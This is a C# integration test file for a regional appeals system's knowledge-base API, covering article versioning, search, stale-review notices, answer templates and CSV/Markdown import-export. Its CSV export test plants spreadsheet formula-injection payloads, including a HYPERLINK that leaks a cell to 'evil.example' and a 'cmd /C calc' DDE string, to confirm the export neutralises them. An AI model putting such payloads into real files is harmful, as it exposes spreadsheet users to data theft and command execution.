using System.Net;
using System.Text;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using Otklik.Features.Appeals;
using Otklik.Features.Knowledge;
using Otklik.Tests.Api;
using Otklik.Tests.Infrastructure;

namespace Otklik.Tests.Knowledge;

public sealed class KnowledgeApiTests(AppPool pool) : IClassFixture<AppPool>
{
    const string Kb = "/api/v1/knowledge";

    static object NewArticle(TestRegion r, string title, Guid? owner = null, bool published = true, string reviewOn = "2027-06-01") => new
    {
        title, answer = "Заявку подают в Фонд поддержки предпринимательства через личный кабинет.", legalBasis = "Постановление Правительства области № 123-ПП",
        links = "https://example.ru/modernizaciya", categoryId = r.BusinessCategory, topicId = r.SubsidyTopic, ownerOrganisationId = owner ?? r.Centre,
        reviewOn, isPublished = published,
    };

    [Theory, MemberData(nameof(Engines.All), MemberType = typeof(Engines))]
    public async Task Editors_write_articles_within_their_scope_and_every_edit_is_a_version(Engine engine)
    {
        var app = await pool.For(engine);
        var r = app.Region;
        var editor = app.ClientAs(Persona.ContentEditor);
        var created = await (await editor.PostJsonAsync($"{Kb}/articles", NewArticle(r, "Кто может получить субсидию «Модернизация»?")).Expect(HttpStatusCode.Created))
            .ReadAsync<KnowledgeApi.ArticleView>();
        Assert.Equal(1, created.Version);

        // The centre's editor cannot write for a municipality; МО Б's administrator cannot touch the centre's article.
        await editor.PostJsonAsync($"{Kb}/articles", NewArticle(r, "Статья МО Б", r.MunB)).ExpectProblem(HttpStatusCode.Forbidden, "auth.forbidden");
        await app.ClientAs(Persona.MunBAdmin).PutJsonAsync($"{Kb}/articles/{created.Id}", NewArticle(r, "Чужая"))
            .ExpectProblem(HttpStatusCode.Forbidden, "auth.forbidden");
        await app.ClientAs(Persona.CentreOperator).PostJsonAsync($"{Kb}/articles", NewArticle(r, "Оператор")).ExpectProblem(HttpStatusCode.Forbidden, "auth.forbidden");

        // Everything wrong at once, each next to its field.
        var bad = await editor.PostJsonAsync($"{Kb}/articles", new { title = " ", categoryId = r.BusinessCategory, topicId = r.HousingTopic })
            .ExpectProblem(HttpStatusCode.UnprocessableEntity, "knowledge.invalid");
        foreach (var field in new[] { "title", "answer", "topicId", "ownerOrganisationId", "reviewOn" })
            Assert.True(bad.GetProperty("errors").TryGetProperty(field, out _), field);

        var body = new Dictionary<string, object?>(JsonSerializer.Deserialize<Dictionary<string, object?>>(JsonSerializer.Serialize(NewArticle(r, created.Title)))!)
        {
            ["version"] = 1, ["answer"] = "Субсидию получают производственные МСП старше одного года.",
        };
        var edited = await (await app.ClientAs(Persona.RegionAdmin).PutJsonAsync($"{Kb}/articles/{created.Id}", body).Expect(HttpStatusCode.OK))
            .ReadAsync<KnowledgeApi.ArticleView>();
        Assert.Equal(2, edited.Version);
        await editor.PutJsonAsync($"{Kb}/articles/{created.Id}", body).ExpectProblem(HttpStatusCode.Conflict, "concurrency.stale_version");

        var versions = await (await app.ClientAs(Persona.CentreOperator).GetAsync($"{Kb}/articles/{created.Id}/versions").Expect(HttpStatusCode.OK)).ReadAsync<JsonElement>();
        Assert.Equal(2, versions.GetArrayLength());
        Assert.Equal("ответ", versions[0].GetProperty("changes").GetString());
        Assert.Equal(app.Region.IdOf(Persona.RegionAdmin), versions[0].GetProperty("changedById").GetGuid());
        Assert.Equal("создана", versions[1].GetProperty("changes").GetString());
        var stored = await app.WithDbAsync(db => db.Articles.AsNoTracking().SingleAsync(a => a.Id == created.Id));
        Assert.Equal("Субсидию получают производственные МСП старше одного года.", stored.Answer);
        Assert.Equal(2, stored.Version);
    }

    [Theory, MemberData(nameof(Engines.All), MemberType = typeof(Engines))]
    public async Task Anyone_searches_the_published_articles_ranked_with_fragment_and_topic(Engine engine)
    {
        var app = await pool.For(engine);
        var m = "ключ" + Guid.NewGuid().ToString("N")[..6];
        await app.AddArticleAsync($"Субсидия «Модернизация» для МСП {m}", "Возмещение части затрат на оборудование.", topicId: app.Region.SubsidyTopic);
        await app.AddArticleAsync($"Неопубликованная субсидия {m}", "Черновик.", published: false);
        var hits = await (await app.Anonymous().GetAsync($"{Kb}/search?q=" + Uri.EscapeDataString($"субсидии {m}")).Expect(HttpStatusCode.OK)).ReadAsync<JsonElement>();
        var hit = Assert.Single(hits.EnumerateArray());
        Assert.Equal($"Субсидия «Модернизация» для МСП {m}", hit.GetProperty("title").GetString());
        Assert.Equal("Субсидия «Модернизация»", hit.GetProperty("topic").GetString());
        Assert.Contains("оборудование", hit.GetProperty("fragment").GetString());

        var suggested = await (await app.Anonymous().GetAsync($"{Kb}/suggest?text=" + Uri.EscapeDataString($"Хотим получить субсидию на новое оборудование {m}"))
            .Expect(HttpStatusCode.OK)).ReadAsync<JsonElement>();
        var id = suggested[0].GetProperty("id").GetGuid();
        await app.Anonymous().PostAsync($"{Kb}/suggest/{id}/opened", null).Expect(HttpStatusCode.NoContent);
        Assert.Equal(1, await app.WithDbAsync(db => db.Articles.Where(a => a.Id == id).Select(a => a.SuggestionOpens).SingleAsync()));
        await app.Anonymous().GetAsync($"{Kb}/search?q=" + new string('я', 201)).ExpectProblem(HttpStatusCode.BadRequest, "search.too_long");
    }

    [Theory, MemberData(nameof(Engines.All), MemberType = typeof(Engines))]
    public async Task A_stale_article_is_marked_and_its_owner_told_once_per_staleness(Engine engine)
    {
        await using var app = await TestApp.StartAsync(engine);
        var r = app.Region;
        // Today is 2026-11-23; the article is due for review on the 25th.
        var article = await app.AddArticleAsync("Как изменить ГПЗУ", "Выдаётся новый ГПЗУ.", reviewOn: new DateOnly(2026, 11, 25), owner: r.MunB);
        async Task<int> SweepAsync() => await app.WithDbAsync(db => StaleArticleSweep.RunOnceAsync(db, app.Clock.GetUtcNow().UtcDateTime, default));
        Task<List<Otklik.Infrastructure.OutboxMessage>> NoticesAsync() =>
            app.WithDbAsync(db => db.Outbox.AsNoTracking().Where(o => o.Type == "knowledge.article_stale").ToListAsync());

        Assert.Equal(0, await SweepAsync());
        app.Clock.Advance(TimeSpan.FromDays(2)); // the 25th: the review date itself is not yet past
        Assert.Equal(0, await SweepAsync());
        app.Clock.Advance(TimeSpan.FromDays(1)); // the 26th
        Assert.Equal(1, await SweepAsync());
        Assert.Equal(0, await SweepAsync());
        app.Clock.Advance(TimeSpan.FromDays(5));
        Assert.Equal(0, await SweepAsync());
        var notice = Assert.Single(await NoticesAsync());
        Assert.Contains(article.Id.ToString(), notice.Payload);
        Assert.Contains(r.MunB.ToString(), notice.Payload);
        Assert.Contains("contentEditor", notice.Payload, StringComparison.OrdinalIgnoreCase);

        var view = await (await app.ClientAs(Persona.CentreOperator).GetAsync($"{Kb}/articles/{article.Id}").Expect(HttpStatusCode.OK)).ReadAsync<KnowledgeApi.ArticleView>();
        Assert.True(view.Stale);
        // The administrator sees it under МО Б; МО Б's administrator too; nobody else's stale articles show to them.
        var byOrg = await (await app.ClientAs(Persona.RegionAdmin).GetAsync($"{Kb}/stale").Expect(HttpStatusCode.OK)).ReadAsync<JsonElement>();
        var group = Assert.Single(byOrg.EnumerateArray());
        Assert.Equal(r.MunB, group.GetProperty("organisationId").GetGuid());
        Assert.Equal(article.Id, group.GetProperty("articles")[0].GetProperty("id").GetGuid());
        await app.ClientAs(Persona.ContentEditor).GetAsync($"{Kb}/stale").Expect(HttpStatusCode.Forbidden);

        // Reviewed: a new date; when that passes too, the owner is told again.
        await app.WithDbAsync(async db =>
        {
            var a = await db.Articles.SingleAsync(x => x.Id == article.Id);
            a.Edit(a.Current with { ReviewOn = new DateOnly(2026, 12, 10) }, null, "Тестов", app.Clock.GetUtcNow().UtcDateTime);
            await db.SaveChangesAsync();
        });
        Assert.Equal(0, await SweepAsync());
        Assert.False((await (await app.ClientAs(Persona.CentreOperator).GetAsync($"{Kb}/articles/{article.Id}")).ReadAsync<KnowledgeApi.ArticleView>()).Stale);
        app.Clock.Advance(TimeSpan.FromDays(14));
        Assert.Equal(1, await SweepAsync());
        Assert.Equal(2, (await NoticesAsync()).Count);
    }

    [Theory, MemberData(nameof(Engines.All), MemberType = typeof(Engines))]
    public async Task A_template_is_filled_from_the_appeal_and_the_person_answering(Engine engine)
    {
        var app = await pool.For(engine);
        var r = app.Region;
        var editor = app.ClientAs(Persona.ContentEditor);
        await editor.PostJsonAsync($"{Kb}/templates", new { name = "Опечатка", body = "Уважаемый {Имязаявителя}!", ownerOrganisationId = r.Centre })
            .ExpectProblem(HttpStatusCode.UnprocessableEntity, "knowledge.invalid");
        var template = await (await editor.PostJsonAsync($"{Kb}/templates", new
        {
            name = "Ответ на вопрос о ремонте", categoryId = r.CityCategory, ownerOrganisationId = r.Centre,
            body = "Уважаемая {ИмяЗаявителя}!\nВаше обращение № {Номер} от {ДатаПоступления} рассмотрено {Дата}. Срок ответа — {СрокОтвета}.\n{Исполнитель}",
        }).Expect(HttpStatusCode.Created)).ReadAsync<KnowledgeApi.TemplateView>();

        var appeal = await app.AppealInAsync(AppealStatus.InWork, Samples.Pothole(r).With("applicant",
            new Dictionary<string, object?> { ["kind"] = "person", ["lastName"] = "Иванова", ["firstName"] = "Мария", ["middleName"] = "Петровна", ["email"] = "m@example.ru" }));
        var filled = await (await app.ClientAs(Persona.MunAExecutor).GetAsync($"{Kb}/templates/{template.Id}/filled?appealId={appeal.Id}").Expect(HttpStatusCode.OK))
            .ReadAsync<JsonElement>();
        var due = appeal.AnswerDueDate!.Value.ToString("dd.MM.yyyy");
        Assert.Equal($"Уважаемая Мария Петровна!\nВаше обращение № {appeal.Number} от 23.11.2026 рассмотрено 23.11.2026. Срок ответа — {due}.\nТестов12 MunAExecutor",
            filled.GetProperty("text").GetString());
        // Someone who cannot see the appeal gets nothing from it.
        await app.ClientAs(Persona.MunBExecutor).GetAsync($"{Kb}/templates/{template.Id}/filled?appealId={appeal.Id}").Expect(HttpStatusCode.NotFound);
    }

    [Theory, MemberData(nameof(Engines.All), MemberType = typeof(Engines))]
    public async Task The_csv_export_opens_every_formula_as_text_and_imports_back_unchanged(Engine engine)
    {
        await using var app = await TestApp.StartAsync(engine);
        var r = app.Region;
        var editor = app.ClientAs(Persona.ContentEditor);
        // What an editor (or a careless import) can type: each cell starts with what a spreadsheet runs as a formula.
        const string link = "=HYPERLINK(\"http://evil.example/?leak=\"&A1;\"Подробнее\")";
        await editor.PostJsonAsync($"{Kb}/articles", new
        {
            title = link, answer = "+7 343 200-00-00, звоните", legalBasis = "-1+1", links = "@SUM(1+1)*cmd|' /C calc'!A0",
            categoryId = r.BusinessCategory, ownerOrganisationId = r.Centre, reviewOn = "2027-06-01", isPublished = true,
        }).Expect(HttpStatusCode.Created);
        // The API trims what it is given; text stored by other paths (an old import, a migration) may still start with a tab or a CR.
        await app.WithDbAsync(async db =>
        {
            db.Articles.Add(Article.Create(new Article.Content("\t=1+1", "\r=2+2", null, null, r.BusinessCategory, null, r.Centre, new DateOnly(2027, 6, 1), false),
                null, "Импорт", TestApp.Start.UtcDateTime));
            await db.SaveChangesAsync();
        });

        var bytes = await (await editor.GetAsync($"{Kb}/export.csv").Expect(HttpStatusCode.OK)).Content.ReadAsByteArrayAsync();
        var rows = Workspace.Csv.Parse(bytes).Skip(1).ToDictionary(x => x[1]);
        // Question, answer, legal basis, links: each starts with an apostrophe, which a spreadsheet shows as text and never runs.
        Assert.Equal(["'" + link, "'+7 343 200-00-00, звоните", "'-1+1", "'@SUM(1+1)*cmd|' /C calc'!A0"], rows["'" + link][1..5]);
        Assert.Equal(["'\t=1+1", "'\r=2+2", "", ""], rows["'\t=1+1"][1..5]);
        // The apostrophe goes inside the quotes when the cell needs them (the separator in it): no quoted formula slips through.
        Assert.Contains("\"'=HYPERLINK(", Encoding.UTF8.GetString(bytes));

        // Read back, the file gives the article as it was: the apostrophe was the export's, not the author's.
        var imported = await (await editor.PostAsync($"{Kb}/import", new StringContent(Encoding.UTF8.GetString(bytes), Encoding.UTF8, "text/csv"))
            .Expect(HttpStatusCode.OK)).ReadAsync<JsonElement>();
        Assert.Equal(0, imported.GetProperty("created").GetInt32());
        var article = await app.WithDbAsync(db => db.Articles.AsNoTracking().SingleAsync(a => a.Title == link));
        Assert.Equal(("+7 343 200-00-00, звоните", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0"), (article.Answer, article.LegalBasis, article.Links));
    }

    [Theory, MemberData(nameof(Engines.All), MemberType = typeof(Engines))]
    public async Task A_csv_with_a_broken_row_is_refused_with_its_number_and_nothing_is_imported(Engine engine)
    {
        await using var app = await TestApp.StartAsync(engine);
        var editor = app.ClientAs(Persona.ContentEditor);
        const string header = "Вопрос;Ответ;Правовое основание;Категория;Тема;Организация;Пересмотреть до;Опубликована\r\n";
        var good = "Как получить субсидию «Модернизация»?;\"Подать заявку в Фонд; срок — 30 дней.\nДокументы: выписка.\";Постановление № 1;Меры поддержки;Субсидия «Модернизация»;Центр управления регионом;2027-06-01;да\r\n";
        var broken = "Сколько стоит вывеска?;Бесплатно;;Меры поддержки;;Центр управления регионом;01.06.2027\r\n"; // one field short
        var unknownCategory = "Вопрос;Ответ;;Нет такой;;Центр управления регионом;2027-06-01;нет\r\n";

        async Task<JsonElement> ImportAsync(string csv, HttpStatusCode status, string? code = null)
        {
            var response = editor.PostAsync($"{Kb}/import", new StringContent(csv, Encoding.UTF8, "text/csv"));
            return code is null ? await (await response.Expect(status)).ReadAsync<JsonElement>() : await response.ExpectProblem(status, code);
        }
        var problem = await ImportAsync(header + good + broken + good, HttpStatusCode.UnprocessableEntity, "knowledge.import_invalid");
        Assert.StartsWith("Строка 3:", problem.GetProperty("detail").GetString());
        Assert.StartsWith("Строка 3:", problem.GetProperty("errors").GetProperty("file")[0].GetString());
        problem = await ImportAsync(header + good + good + unknownCategory, HttpStatusCode.UnprocessableEntity, "knowledge.import_invalid");
        Assert.Contains("Строка 4: категории «Нет такой»", problem.GetProperty("detail").GetString());
        Assert.Equal(0, await app.WithDbAsync(db => db.Articles.CountAsync()));
        Assert.Equal(0, await app.WithDbAsync(db => db.SearchEntries.CountAsync(e => e.Kind == Features.Search.SearchKind.Article)));

        var imported = await ImportAsync(header + good, HttpStatusCode.OK);
        Assert.Equal(1, imported.GetProperty("created").GetInt32());
        var article = await app.WithDbAsync(db => db.Articles.AsNoTracking().SingleAsync());
        Assert.Equal("Подать заявку в Фонд; срок — 30 дней.\nДокументы: выписка.", article.Answer);
        Assert.Equal(app.Region.SubsidyTopic, article.TopicId);
        Assert.True(article.IsPublished);
        Assert.Single(await app.SearchAsync(Features.Search.SearchKind.Article, "субсидии"));

        // Export and import again: the same article (by its id) is recognised, nothing new is made.
        var csv = Encoding.UTF8.GetString(await (await editor.GetAsync($"{Kb}/export.csv").Expect(HttpStatusCode.OK)).Content.ReadAsByteArrayAsync());
        Assert.Equal(0, (await ImportAsync(csv, HttpStatusCode.OK)).GetProperty("created").GetInt32());
        var md = await (await editor.GetAsync($"{Kb}/export.md").Expect(HttpStatusCode.OK)).Content.ReadAsStringAsync();
        Assert.Contains("## Как получить субсидию «Модернизация»?", md);
        var changed = md.Replace("Документы: выписка.", "Документы: выписка из ЕГРЮЛ.");
        var result = await (await editor.PostAsync($"{Kb}/import", new StringContent(changed, Encoding.UTF8, "text/markdown")).Expect(HttpStatusCode.OK)).ReadAsync<JsonElement>();
        Assert.Equal(1, result.GetProperty("updated").GetInt32());
        Assert.EndsWith("выписка из ЕГРЮЛ.", await app.WithDbAsync(db => db.Articles.Select(a => a.Answer).SingleAsync()));
        Assert.Equal(1, await app.WithDbAsync(db => db.Articles.CountAsync()));
        // Markdown with a broken article: named by its line.
        var brokenMd = changed + "\n## Статья без ответа\n\n- Категория: Меры поддержки\n- Организация: Центр управления регионом\n- Пересмотреть до: 2027-01-01\n";
        var mdProblem = await editor.PostAsync($"{Kb}/import", new StringContent(brokenMd, Encoding.UTF8, "text/markdown"))
            .ExpectProblem(HttpStatusCode.UnprocessableEntity, "knowledge.import_invalid");
        Assert.Matches(@"^Строка \d+: не указан ответ", mdProblem.GetProperty("detail").GetString());
    }

    [Theory, MemberData(nameof(Engines.All), MemberType = typeof(Engines))]
    public async Task The_operator_answers_a_consultation_from_an_article_and_the_appeal_closes_with_it(Engine engine)
    {
        var app = await pool.For(engine);
        var r = app.Region;
        var article = await app.AddArticleAsync("Как получить субсидию «Модернизация»", "Заявку подают в Фонд через личный кабинет.", legalBasis: "Постановление № 123-ПП",
            topicId: r.SubsidyTopic);
        var appeal = await app.SubmitAsync(Samples.Subsidy(r));
        var operatorClient = app.ClientAs(Persona.CentreOperator);
        await operatorClient.PostJsonAsync($"/api/v1/appeals/{appeal.Id}/consultation", new { version = appeal.Version })
            .ExpectProblem(HttpStatusCode.UnprocessableEntity, "knowledge.unknown_article");
        var closed = await (await operatorClient.PostJsonAsync($"/api/v1/appeals/{appeal.Id}/consultation", new { version = appeal.Version, articleId = article.Id })
            .Expect(HttpStatusCode.OK)).ReadAsync<AppealView>();
        Assert.Equal(AppealStatus.Closed, closed.Status);
        Assert.Equal(FederalResult.Explained, closed.AnswerResult);
        Assert.Contains("Заявку подают в Фонд через личный кабинет.", closed.AnswerText);
        Assert.Contains("Постановление № 123-ПП", closed.AnswerText);
        Assert.StartsWith("Уважаемый(ая) Петров Пётр!", closed.AnswerText);

        var events = await app.WithDbAsync(db => db.AppealEvents.AsNoTracking().Where(e => e.AppealId == appeal.Id).OrderBy(e => e.Sequence).ToListAsync());
        Assert.Equal([EventKind.Received, EventKind.Registered, EventKind.AnswerDrafted, EventKind.AnswerSent, EventKind.Closed], events.Select(e => e.Kind));
        Assert.Contains(article.Id.ToString(), events[^1].Data);
        Assert.Equal(1, await app.WithDbAsync(db => db.Articles.Where(a => a.Id == article.Id).Select(a => a.UsageCount).SingleAsync()));
        Assert.True(await app.WithDbAsync(db => db.Outbox.AnyAsync(o => o.AppealId == appeal.Id && o.Type == "appeal.answered")));

        // A pothole is not a consultation.
        var pothole = await app.SubmitAsync();
        await operatorClient.PostJsonAsync($"/api/v1/appeals/{pothole.Id}/consultation", new { version = pothole.Version, articleId = article.Id })
            .ExpectProblem(HttpStatusCode.Conflict, "knowledge.not_consultation");
        Assert.Equal(1, await app.WithDbAsync(db => db.Articles.Where(a => a.Id == article.Id).Select(a => a.UsageCount).SingleAsync()));
    }
}
